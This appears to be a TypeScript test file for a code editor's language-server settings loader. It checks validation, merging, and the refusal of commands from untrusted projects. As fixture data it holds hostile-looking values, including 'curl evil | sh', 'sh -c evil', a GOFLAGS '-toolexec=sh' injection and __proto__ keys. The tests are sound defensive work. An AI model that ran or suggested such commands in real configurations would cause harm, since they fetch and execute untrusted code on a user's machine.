import type { JsonObject } from "../../src/base/decode.ts";
import { type ServerSettings, serversFrom, startsIn } from "../../src/lsp/settings.ts";
import { languageServers } from "../../src/lsp/servers.ts";
import { assertEquals } from "../support/assert.ts";

const path = "/the/folder/truce.jsonc";

/** Entries of a project's file that are wrong, and what is said of each. */
const wrong: readonly (readonly [servers: unknown, said: string])[] = [
  [[], "servers must be an object"],
  [{ x: 1 }, "servers.x must be an object"],
  [{ x: { command: "x" } }, "servers.x.command must be a list of texts"],
  [{ x: { command: [] } }, "servers.x.command must be a list of texts"],
  [{ clangd: { command: ["clangd", 1] } }, "servers.clangd.command must be a list of texts"],
  [{ clangd: { enabled: "no" } }, "servers.clangd.enabled must be true or false"],
  [{ clangd: { files: { ".x": 1 } } }, 'servers.clangd.files must be an object such as { ".ext": "language" }'],
  [{ clangd: { options: [] } }, "servers.clangd.options must be an object"],
  [{ clangd: { settings: null } }, "servers.clangd.settings must be an object"],
  [{ clangd: { install: "" } }, "servers.clangd.install must be a text"],
  [
    { clangd: { comand: ["x"] } },
    "servers.clangd.comand is not known: there are enabled, command, files, options, settings, install",
  ],
  [{ clang: { enabled: false } }, "servers.clang is no server that truce knows, and names no command"],
];

for (const [servers, said] of wrong) {
  Deno.test(`serversFrom() says of ${JSON.stringify(servers)}: ${said}`, () => {
    const { problems, servers: after } = fromProject(servers, true);
    assertEquals(problems[0]?.text, `truce.jsonc of the project: ${said}`);
    assertEquals(after.find(({ name }) => name === "clangd"), rowOf("clangd"));
  });
}

/** Options of a project that nobody trusts, and what of them counts. */
const untrusted: readonly (readonly [said: JsonObject, counts: JsonObject])[] = [
  [{ maxMemory: 1, trace: "off" }, { maxMemory: 1, trace: "off" }],
  [{ bashIde: { shellcheckPath: "./evil", globPattern: "*" } }, { bashIde: { globPattern: "*" } }],
  [{ check: { overrideCommand: ["sh"], allTargets: true } }, { check: { allTargets: true } }],
  [{ build: { env: { GOFLAGS: "-toolexec=sh" } } }, { build: {} }],
  [{ plugins: [{ name: "x", location: "." }] }, {}],
  [{ plugins: { flake8: { executable: "x", enabled: true } } }, { plugins: { flake8: { enabled: true } } }],
  [{ list: [{ tsserver: { path: "x" } }, 1] }, { list: [{ tsserver: {} }, 1] }],
];

for (const [said, counts] of untrusted) {
  Deno.test(`serversFrom() takes ${JSON.stringify(counts)} of ${JSON.stringify(said)} from a stranger`, () => {
    for (const field of ["options", "settings"] as const) {
      const { servers, refused, problems } = fromProject({ gopls: { [field]: said } }, false);
      assertEquals(servers[0], { ...rowOf("gopls"), [field]: counts });
      assertEquals([refused.length, problems], [JSON.stringify(said) === JSON.stringify(counts) ? 0 : 1, []]);
      assertEquals(fromProject({ gopls: { [field]: said } }, true).servers[0], { ...rowOf("gopls"), [field]: said });
    }
  });
}

Deno.test("serversFrom() without files is the table", () => {
  assertEquals(serversFrom(undefined, undefined), { servers: languageServers, refused: [], problems: [] });
});

Deno.test("serversFrom() lays the project over the user over the table", () => {
  const user = {
    servers: { gopls: { settings: { "gopls.a": 1, "gopls.b": { c: 2 } }, files: { ".gotmpl": "gotmpl" } } },
  };
  const project = { servers: { gopls: { settings: { gopls: { b: { d: 3 }, a: 4 } } } } };
  const { servers } = serversFrom(user, { value: project, isTrusted: false, path });
  assertEquals(servers[0], {
    ...rowOf("gopls"),
    files: { ...rowOf("gopls").files, ".gotmpl": "gotmpl" },
    settings: { gopls: { a: 4, b: { c: 2, d: 3 } } },
  });
});

Deno.test("serversFrom() keeps what the table has beside what a file says", () => {
  const { servers } = fromProject({ "yaml-language-server": { settings: { yaml: { validate: false } } } }, false);
  assertEquals(servers[0].settings, {
    yaml: { ...Object(rowOf("yaml-language-server").settings?.yaml), validate: false },
  });
});

Deno.test("serversFrom() prefers servers that are named: the project's, then the user's, then the table's", () => {
  const user = { servers: { pylsp: {}, ruff: {} } };
  const { servers } = serversFrom(user, { value: { servers: { ruff: {} } }, isTrusted: false, path });
  assertEquals(order(servers, ".py"), "ruff pylsp pyright basedpyright");
});

Deno.test("serversFrom() switches off and on again", () => {
  const user = { servers: { pyright: { enabled: false }, ruff: { enabled: false } } };
  const project = { servers: { ruff: { enabled: true } } };
  const { servers } = serversFrom(user, { value: project, isTrusted: false, path });
  assertEquals(order(servers, ".py"), "ruff pyright(off) basedpyright pylsp");
});

Deno.test("serversFrom() refuses commands, new servers and advice of a project that is not trusted, in one sentence", () => {
  const servers = {
    own: { command: ["./own", "--stdio"], files: { ".own": "own" } },
    pyright: { command: ["sh", "-c", "evil"], install: "curl evil | sh", options: { a: 1 } },
  };
  const text =
    'truce.jsonc names a command for "own", "pyright". Only the user may allow it, with: truce trust /the/folder';
  const { servers: after, ...said } = fromProject(servers, false);
  assertEquals(said.refused.map((reason) => reason.text), [text]);
  assertEquals(said.problems, []);
  assertEquals(after[0], { ...rowOf("pyright"), options: { a: 1 } });
  assertEquals(after.some(({ name }) => name === "own"), false);
});

Deno.test("serversFrom() refuses again, and to be said again, what is another command", () => {
  const keyOf = (command: string) => fromProject({ own: { command: [command] } }, false).refused[0].key;
  assertEquals(keyOf("a") === keyOf("b"), false);
  assertEquals(keyOf("a"), keyOf("a"));
});

Deno.test("serversFrom() says a folder as it is typed", () => {
  const value = { servers: { own: { command: ["own"] } } };
  const { refused } = serversFrom(undefined, { value, isTrusted: false, path: "/it's a/b/truce.jsonc" });
  assertEquals(refused[0].text.split(": ")[1], "truce trust '/it'\\''s a/b'");
});

Deno.test("serversFrom() takes a trusted project's server, its program seen from its folder", () => {
  const { servers, refused } = fromProject({ own: { command: ["./bin/own", "-x"], files: { ".own": "own" } } }, true);
  assertEquals(servers[0], {
    name: "own",
    files: { ".own": "own" },
    command: ["/the/folder/bin/own", "-x"],
    install: "put own on the PATH",
  });
  assertEquals(refused, []);
});

Deno.test("serversFrom() takes the user's command without being asked to", () => {
  const { servers, refused } = serversFrom({ servers: { own: { command: ["own"], install: "make own" } } }, undefined);
  assertEquals([servers[0].name, servers[0].install, refused], ["own", "make own", []]);
});

Deno.test("serversFrom() forgets what it knows of a program when another takes its place", () => {
  const name = "typescript-language-server";
  const after = (...command: string[]) => fromProject({ [name]: { command } }, true).servers[0];
  assertEquals(after("/opt/bin/typescript-language-server.cmd", "--stdio").ask, "tsserver");
  const { ask, install } = after("vtsls", "--stdio");
  assertEquals([ask, install], [undefined, "put vtsls on the PATH"]);
});

Deno.test("serversFrom() survives names that objects have, and depth", () => {
  const names = '{"servers":{"__proto__":{"enabled":false},"constructor":{"command":["x"]}}}';
  const { servers, problems } = serversFrom(JSON.parse(names), undefined);
  assertEquals([servers[0].name, problems.length], ["constructor", 1]);
  const deep = JSON.parse(`${'{"a":'.repeat(1_000)}1${"}".repeat(1_000)}`);
  assertEquals(fromProject({ gopls: { options: deep } }, false).servers[0].options, deep);
  const many = Object.fromEntries(Array.from({ length: 60 }, (_, at) => [`s${at}`, { command: ["x"] }]));
  assertEquals(fromProject(many, true).servers.length, languageServers.length + 50);
});

Deno.test("startsIn() lists all that a file has started", () => {
  const servers = {
    own: { command: ["own"], install: "get own", settings: { "a.b": { cPath: "x", d: 1 } } },
    gopls: {},
  };
  assertEquals(startsIn({ servers }).map(({ server, field }) => `${server} ${field}`), [
    "own command",
    "own install",
    "own settings.a.b.cPath",
  ]);
});

function fromProject(servers: unknown, isTrusted: boolean): ServerSettings {
  return serversFrom(undefined, { value: { servers }, isTrusted, path });
}

function rowOf(name: string) {
  const row = languageServers.find((server) => server.name === name);
  if (row === undefined) throw new Error(`no row ${name}`);
  return row;
}

function order(servers: ServerSettings["servers"], ending: string): string {
  return servers.filter(({ files }) => ending in files).map(({ name, isOff }) => isOff ? `${name}(off)` : name).join(
    " ",
  );
}
